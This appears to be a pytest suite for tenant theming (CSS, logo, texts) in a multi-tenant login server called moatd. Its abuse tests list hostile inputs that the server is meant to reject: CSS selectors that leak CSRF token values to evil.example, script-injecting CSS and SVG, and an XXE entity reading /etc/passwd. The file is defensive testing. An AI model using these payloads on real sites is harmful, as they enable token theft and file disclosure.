# Copyright (c) 2026 The moatd authors
#
# Permission to use, copy, modify, and distribute this software for any
# purpose with or without fee is hereby granted, provided that the above
# copyright notice and this permission notice appear in all copies.
#
# THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
# WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
# MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
# ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
# WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
# ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
# OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.


"""How a tenant's pages look (API.md section 9): style sheet, logo and texts,
set by moatctl; and what a tenant's pages must not be made to do by them."""

import base64
import json
import re
import socket
import struct
import zlib

import pytest

import moat
from browser import chromium
from tenant import Tenant

OWN_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox"
MAX = 32768


def png(size=16):
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data)))
    row = b"\0" + b"\x0b\x6e\x63" * size
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(row * size)) + chunk(b"IEND", b""))


@pytest.fixture
def tenant(server):
    return Tenant(server)


@pytest.fixture
def put(server, tmp_path):
    """Sets a look from a file of that content; the command's result."""
    def run(tenant, look, content, *options):
        path = tmp_path / look
        path.write_bytes(content if isinstance(content, bytes)
                         else content.encode())
        return server.ctl(*options, "tenant", look, tenant.id, str(path))
    return run


def wait_for(tenant, path, body):
    """The answer that has it: each worker keeps a look for a second."""
    got = []

    def there():
        got[:] = [tenant.get(path)]
        return got[0].body == body
    moat.until(there, what=f"{path} as it was set")
    return got[0]


# ---- what there is without a row ----

def test_without_a_row_the_pages_look_as_ours(server, tenant):
    for get in (server.get, tenant.get):
        css = get("/theme.css")
        assert (css.status, css.body) == (200, b""), css
        assert css.headers["content-type"] == "text/css; charset=utf-8"
        assert css.headers["cache-control"] == "public, max-age=300"
        logo = get("/logo")
        assert logo.status == 200 and logo.body.startswith(b"<svg"), logo
        assert logo.headers["content-type"] == "image/svg+xml"
        assert logo.headers["content-security-policy"] == OWN_CSP
        for r, path in ((css, "/theme.css"), (logo, "/logo")):
            again = get(path, headers={"If-None-Match": r.headers["etag"]})
            assert (again.status, again.body) == (304, b""), again
            assert again.headers["etag"] == r.headers["etag"]


def test_looks_of_no_tenant(server, tenant):
    for path in ("/theme.css", "/logo"):
        assert server.get(f"/t/nobody{path}").status == 404
        assert server.get(f"/t/default{path}").status == 404
        assert server.call("POST", path).status == 405
        assert server.get(f"{path}?a=1&a=2").status == 400
    paths = ("/login", "/theme.css", "/logo", "/register", "/oauth2/logout",
             "/forgot-password")
    root = server.admin_login()["token"]
    url = f"/admin/tenants/{tenant.id}"
    for _ in range(2):                  # and at once, whatever was known
        assert all(tenant.get(p).status == 200 for p in paths)
        assert server.patch(url, {"status": "suspended"}, root).status == 200
        for path in paths:
            assert tenant.get(path).status == 404, path
        assert server.patch(url, {"status": "active"}, root).status == 200


# ---- setting ----

def test_a_theme_is_served_to_its_tenant_alone(server, tenant, put):
    css = ":root { --accent: #a04; background: url(logo) }\n"
    other = Tenant(server)
    assert put(tenant, "theme", css).returncode == 0
    r = wait_for(tenant, "/theme.css", css.encode())
    assert r.headers["content-type"] == "text/css; charset=utf-8"
    assert r.headers["etag"].strip('"') not in ("", "none")
    heads = {"If-None-Match": f'W/"x", {r.headers["etag"]}'}
    moat.until(lambda: tenant.get("/theme.css", headers=heads).status == 304,
               what="304")
    moat.until(lambda: server.req("HEAD", tenant.base + "/theme.css")
               .headers["content-length"] == str(len(css)), what="a length")
    for get in (server.get, other.get):
        assert get("/theme.css").body == b""
    shown = server.ctl("tenant", "theme", tenant.id)
    assert (shown.returncode, shown.stdout) == (0, css)
    (told,) = (json.loads(line) for line in server.ctl(
        "--json", "tenant", "theme", tenant.id).stdout.splitlines())
    assert told["type"] == "text/css" and told["bytes"] == len(css)


def test_a_theme_is_replaced_and_reset(server, tenant, put):
    for css in ("a { top: 0 }", "b { top: 1px }"):
        assert put(tenant, "theme", css).returncode == 0
        wait_for(tenant, "/theme.css", css.encode())
    assert server.ctl("tenant", "theme", tenant.id, "--reset").returncode == 0
    wait_for(tenant, "/theme.css", b"")
    assert server.ctl("tenant", "theme", tenant.id).stdout == ""
    # as well where there is none
    assert server.ctl("tenant", "theme", tenant.id, "--reset").returncode == 0


def test_a_logo_is_an_image_that_runs_nothing(server, tenant, put):
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    for content, kind in ((png(), "image/png"), (svg, "image/svg+xml"),
                          (b"\xff\xd8\xff\xe0" + bytes(20), "image/jpeg"),
                          (b"RIFF\x10\0\0\0WEBPVP8 " + bytes(8),
                           "image/webp")):
        assert put(tenant, "logo", content).returncode == 0
        r = wait_for(tenant, "/logo", content)
        assert r.headers["content-type"] == kind
        assert r.headers["content-security-policy"] == OWN_CSP
        assert r.headers["x-content-type-options"] == "nosniff"


def test_setting_is_in_the_audit_chain(server, tenant, put):
    assert put(tenant, "theme", "a { top: 0 }").returncode == 0
    rows = server.sql("SELECT tenant, result, detail FROM audit WHERE action "
                      f"= 'tenant.update' AND subject = '{tenant.id}'")
    assert [r[:2] for r in rows] == [("default", "success")]
    assert json.loads(rows[0][2]) == {"by": "operator", "members": ["theme"]}


def test_the_default_tenant_has_looks(server, put):
    class Root:
        id = "default"
        get = staticmethod(server.get)
    try:
        assert put(Root, "theme", "a { top: 0 }").returncode == 0
        wait_for(Root, "/theme.css", b"a { top: 0 }")
    finally:
        assert server.ctl("tenant", "theme", "default",
                          "--reset").returncode == 0
    wait_for(Root, "/theme.css", b"")


def test_the_largest_look_and_one_byte_more(tenant, put):
    css = "/*" + "x" * (MAX - 4) + "*/"
    assert put(tenant, "theme", css).returncode == 0
    wait_for(tenant, "/theme.css", css.encode())
    r = put(tenant, "theme", css + "\n")
    assert r.returncode == 1 and "32768" in r.stderr, r
    wait_for(tenant, "/theme.css", css.encode())


# ---- texts ----

def wait_for_text(tenant, text, **kw):
    got = []

    def there():
        got[:] = [tenant.get("/login", **kw)]
        return text in got[0].body.decode()
    moat.until(there, what=text)
    assert got[0].status == 200
    return got[0].body.decode()


def test_pages_have_the_looks_of_their_tenant(server, tenant):
    for get, base in ((server.get, ""), (tenant.get, tenant.base)):
        page = get("/login").body.decode()
        assert f'<link rel="stylesheet" href="{base}/theme.css">' in page
        assert f'<img src="{base}/logo"' in page


def test_texts_stand_before_ours_in_their_language(server, tenant, put):
    texts = {"en": {"login.title": "Come <in> & \"stay\"",
                    "brand": "Acme <b>"}}
    assert put(tenant, "texts", json.dumps(texts)).returncode == 0
    page = wait_for_text(tenant, "Come &lt;in&gt; &amp; &quot;stay&quot;")
    assert "<in>" not in page and "<b>" not in page
    assert "<span>Acme &lt;b&gt;</span>" in page
    assert "Come " not in server.get("/login").body.decode()
    assert "Come " not in Tenant(server).get("/login").body.decode()
    assert server.ctl("tenant", "texts", tenant.id, "--reset").returncode == 0
    moat.until(lambda: b"Come " not in tenant.get("/login").body,
               what="our own texts")


def test_texts_that_fit_no_catalogue_change_nothing(server, tenant):
    """A row of another version of moatd, whose catalogue was another."""
    texts = {"en": {"login.title": "Slots {password}", "no.such.key": "x",
                    "login.submit": "Enter"}, "xx": {"login.title": "x"}}
    insert(server, tenant, "texts", "application/json", json.dumps(texts))
    page = wait_for_text(tenant, ">Enter</button>")
    assert "Slots" not in page and ">Sign in</h1>" in page


# ---- abuse ----

@pytest.mark.parametrize("css", [
    "@import 'https://evil.example/a.css';",
    "@import url(//evil.example/a.css);",
    "input[name=csrf][value^=a] { background: url(https://evil.example/a) }",
    "input[value^=a] { background: url(/oauth2/authorize?client_id=a) }",
    "input[value^=a] { background: url('/logo?a') }",
    "a { background: image-set('https://evil.example/' 1x) }",
    "a { background: \\75rl(https://evil.example/) }",
    "a { background: url(data:text/html,x) }",
    "a { width: expression(alert(1)) }",
    "@font-face { font-family: x; src: url(https://evil.example/) }",
    "</style><script>alert(1)</script>", "<!-- x -->",
    "a { content: 'open", "/* open", "a\0b", b"\xff\xfe", "@x { }",
])
def test_theme_refused(tenant, put, css):
    r = put(tenant, "theme", css)
    assert r.returncode == 1 and r.stderr.startswith("moatctl: theme "), r
    assert tenant.get("/theme.css").body == b""


@pytest.mark.parametrize("logo", [
    b"GIF89a" + bytes(30), b"<html><svg/></html>", b"%PDF-1.7", b"\x89PNG",
    b"<svg><script>alert(1)</script></svg>", b"<svg>\0</svg>",
    b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg/>',
    b"<svg><foreignObject><form/></foreignObject></svg>", b"text",
])
def test_logo_refused(tenant, put, logo):
    r = put(tenant, "logo", logo)
    assert r.returncode == 1 and r.stderr.startswith("moatctl: logo "), r
    assert tenant.get("/logo").body.startswith(b"<svg xmlns")


@pytest.mark.parametrize("texts,words", [
    ({"en": {"login.titel": "x"}}, "texts en.login.titel is the key of no"),
    ({"en": {"login.title": "{name}"}}, "texts en.login.title must be"),
    ({"xx": {"login.title": "x"}}, "is no language of ours"),
    ({"en": {"\u202e<b>": "x"}}, "texts is the key of no text"),
    ({"en": {"x" * 2000: "x"}}, "texts is the key of no text"),
])
def test_texts_refused_by_name(tenant, put, texts, words):
    r = put(tenant, "texts", json.dumps(texts))
    assert r.returncode == 1 and words in r.stderr, r


@pytest.mark.parametrize("texts", [
    "", "{", "[]", "null", '{"en":[]}', '{"en":{"login.title":1}}',
    '{"EN":{}}', '{"../x":{}}', '{"en":{"Login":"x"}}', '{"en":{"":"x"}}',
    '{"en":{"login.title":""}}', '{"en":{"login.title":"a\\u0000"}}',
    '{"en":{"login.title":"a\\nb"}}', '{"en":{},"en":{}}',
    '{"en":{"login.title":"%s"}}' % ("x" * 1025),
    '{"en":{"login.title":"\\ud800"}}', '{"en":{}} x',
    b'{"en":{"login.title":"\xff"}}',
])
def test_texts_refused(tenant, put, texts):
    r = put(tenant, "texts", texts)
    assert r.returncode == 1 and r.stderr.startswith("moatctl: "), r


def insert(server, tenant, look, kind, body):
    """A row that moatd itself did not let in."""
    text = base64.urlsafe_b64encode(body.encode()).decode().rstrip("=")
    server.sql("INSERT INTO looks (tenant, look, type, body, etag, "
               f"updated_at, last_op) VALUES ('{tenant.id}', '{look}', "
               f"'{kind}', '{text}', 'e', 1, 'x')")


def test_nobody_else_sets_a_look(server, tenant):
    """There is no route for it, and its rows are the tenant's."""
    root = server.admin_login()["token"]
    for method in ("PUT", "POST", "PATCH", "DELETE"):
        assert tenant.call(method, "/theme.css", None, root).status == 405
        assert tenant.call(method, "/logo", None, root).status == 405
    r = server.ctl("tenant", "theme", "nobody", "--reset")
    assert r.returncode == 1 and "no such tenant" in r.stderr, r
    assert server.ctl("tenant", "theme", "../x", "--reset").returncode == 1
    assert server.ctl("tenant", "theme").returncode == 2
    assert server.ctl("tenant", "theme", tenant.id, "--rest").returncode == 2
    r = server.ctl("tenant", "logo", tenant.id, "/nonexistent/file")
    assert r.returncode == 1 and "nonexistent" in r.stderr, r


def test_more_tenants_than_a_worker_keeps(server, put):
    """A worker keeps 64; each is right when it is asked for again."""
    some = [Tenant(server) for _ in range(70)]
    rows = ", ".join(
        f"('{t.id}', 'theme', 'text/css', '" +
        base64.urlsafe_b64encode(f"/*{t.id}*/".encode()).decode().rstrip("=") +
        f"', 'e{i}', 1, 'x')" for i, t in enumerate(some))
    server.sql("INSERT INTO looks (tenant, look, type, body, etag, "
               f"updated_at, last_op) VALUES {rows}")
    for t in (*some, *some[::-1]):
        assert t.get("/theme.css").body == f"/*{t.id}*/".encode()


@pytest.mark.slow         # shadow memory counts as well
@pytest.mark.root
def test_a_worker_keeps_little_of_many_looks(server):
    """Not all that 48 tenants may set, which is 4.5 MiB; each is right."""
    some = [Tenant(server) for _ in range(48)]
    ids = ", ".join(f"'{t.id}'" for t in some)
    theme = "/*" + "x" * 32700 + "*/"
    for look, kind, text in (
            ("theme", "text/css", theme),
            ("logo", "image/svg+xml", f"<svg>{'x' * 32000}</svg>"),
            ("texts", "application/json",
             json.dumps({"en": {f"k{i}": "y" * 100 for i in range(280)}}))):
        body = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
        server.sql("INSERT INTO looks (tenant, look, type, body, etag, "
                   f"updated_at, last_op) SELECT id, '{look}', '{kind}', "
                   f"'{body}', 'e', 1, 'x' FROM tenants WHERE id IN ({ids})")
    for t in (*some, *some[::-1], *some):
        assert t.get("/theme.css").body == theme.encode()
        assert t.get("/logo").status == t.get("/login").status == 200
    for pid in server.pids("worker"):
        with open(f"/proc/{pid}/smaps_rollup") as f:
            kib = [int(n) for n in re.findall(r"^Private_\w+:\s+(\d+) kB",
                                              f.read(), re.M)]
        assert 0 < sum(kib) < 4096, kib


def test_what_the_database_holds_cannot_break_a_page(server, tenant):
    """A row that no rule let in is an error, not a page."""
    server.sql("INSERT INTO looks (tenant, look, type, body, etag, "
               f"updated_at, last_op) VALUES ('{tenant.id}', 'theme', "
               "'text/css', '***', 'e', 1, 'x')")
    r = tenant.get("/theme.css")
    assert r.status == 500 and r.json()["error"] == "internal_error"


@pytest.mark.once
def test_a_theme_that_got_in_tells_nobody(server, tenant):
    """Should a rule of the above have a hole, the pages' policy lets a browser
    load nothing from elsewhere, by no selector."""
    with socket.create_server(("127.0.0.1", 0)) as ear, chromium() as b:
        url = f"http://127.0.0.1:{ear.getsockname()[1]}"
        css = (f"@import url({url}/import);"
               f"@font-face {{ font-family: x; src: url({url}/font) }}"
               f"* {{ font-family: x !important; background: url({url}/any) }}"
               f"input[name=csrf][value^=''], input[name=csrf] ~ * "
               f"{{ background: url({url}/csrf) }}"
               "h1 { color: rgb(1, 2, 3) }")
        insert(server, tenant, "theme", "text/css", css)
        b.get(f"{server.url}{tenant.base}/login")
        h1 = b.find("h1")
        assert "1, 2, 3" in h1.value_of_css_property("color")
        ear.settimeout(0)
        with pytest.raises(BlockingIOError):
            ear.accept()
